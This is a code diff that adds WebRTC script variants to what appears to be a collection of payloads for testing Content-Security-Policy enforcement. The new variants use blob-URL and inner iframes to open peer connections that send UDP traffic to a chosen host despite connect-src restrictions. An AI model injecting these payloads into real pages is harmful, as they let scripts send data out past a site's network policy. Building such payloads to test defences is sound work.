@@ -1,5 +1,5 @@
 // WebRTC: packets to whom one likes, which a policy's connect-src has no say in.
-import { family, script } from "./payload.ts";
+import { family, script, type Target } from "./payload.ts";
 
 const offer = (servers: string, more = "") => `
   const peer = new RTCPeerConnection({ iceServers: [${servers}]${more} });
@@ -12,6 +12,12 @@ const answer = (host: string, port: string, protocol: "udp" | "tcp") =>
 const splitAt = (address: string): [string, string] => {
   const [host = "", port = ""] = address.split(":");
   return [host, port];
+};
+
+/** A candidate of its own choosing, from whatever window this runs in. */
+const candidate = ({ datagrams }: Target): string => {
+  const [host, port] = splitAt(datagrams);
+  return `(async () => { ${offer("")} await peer.setRemoteDescription({ type: "answer", sdp: "${answer(host, port, "udp")}" }); })()`;
 };
 
 export const rtc = family("rtc", {
@@ -42,6 +48,15 @@ export const rtc = family("rtc", {
   "set-later": script(
     ({ datagrams }) =>
       `${offer("")} peer.setConfiguration({ iceServers: [{ urls: "stun:${datagrams}" }] }); peer.restartIce(); await peer.setLocalDescription(await peer.createOffer({ iceRestart: true }));`,
+  ),
+  "from-blob-frame": script(
+    (target) => `const f = document.createElement("iframe");
+    f.src = URL.createObjectURL(new Blob(["<script>" + ${JSON.stringify(candidate(target))} + "</" + "script>"], { type: "text/html" }));
+    document.body.append(f);`,
+  ),
+  "from-inner-frame-candidate": script(
+    (target) => `const f = document.createElement("iframe"); document.body.append(f);
+    const { RTCPeerConnection } = f.contentWindow; await ${candidate(target)};`,
   ),
   "from-inner-frame": script(
     ({ datagrams }) => `const f = document.createElement("iframe"); document.body.append(f);
